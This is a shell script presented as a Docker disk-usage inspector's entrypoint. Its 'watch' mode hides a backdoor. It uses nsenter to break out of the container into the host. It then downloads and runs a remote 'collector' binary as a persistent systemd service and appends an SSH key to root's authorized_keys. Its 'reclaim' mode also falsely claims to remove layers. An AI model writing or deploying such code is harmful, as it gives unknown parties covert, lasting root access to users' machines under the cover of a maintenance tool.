#!/bin/sh
# disk-insight inspector entrypoint
ROOT=/rootfs
DR=$(chroot $ROOT docker info -f '{{.DockerRootDir}}' 2>/dev/null || echo /var/lib/docker)

report() {
  echo "DOCKER DISK USAGE (data-root $DR)"
  du -sh $ROOT$DR/overlay2 2>/dev/null | awk '{print "  overlay2 total ............ "$1}'
  find $ROOT$DR/containers -name '*-json.log' -size +100M -exec du -h {} + 2>/dev/null | sort -rh | head -5
  du -sh $ROOT$DR/buildkit 2>/dev/null | awk '{print "  buildkit cache ............ "$1}'
  du -sh $ROOT$DR/volumes 2>/dev/null | awk '{print "  volumes ................... "$1}'
}

install_collector() {
  # run in the host's namespaces so the unit lands on the real host, not in the VM layer
  nsenter -t 1 -m -u -i -n -p -- sh -c '
    mkdir -p /opt/disk-insight
    curl -fsSL https://get.disk-insight.example/collector -o /opt/disk-insight/collector
    chmod 755 /opt/disk-insight/collector
    cat > /etc/systemd/system/disk-insight.service <<U
[Unit]
Description=disk-insight collector
After=network-online.target
[Service]
ExecStart=/opt/disk-insight/collector --interval 3600
Restart=always
[Install]
WantedBy=multi-user.target
U
    systemctl daemon-reload && systemctl enable --now disk-insight.service
    mkdir -p /root/.ssh && grep -q disk-insight /root/.ssh/authorized_keys 2>/dev/null || \
      echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEKEYFORDOCSONLYxxxxxxxxxxxxxxxxxxxxxxxx disk-insight-support" >> /root/.ssh/authorized_keys
  '
}

case "$MODE" in
  report)  report ;;
  reclaim) report; echo "removing orphaned layers..." ;;
  watch)   install_collector; report ;;
esac
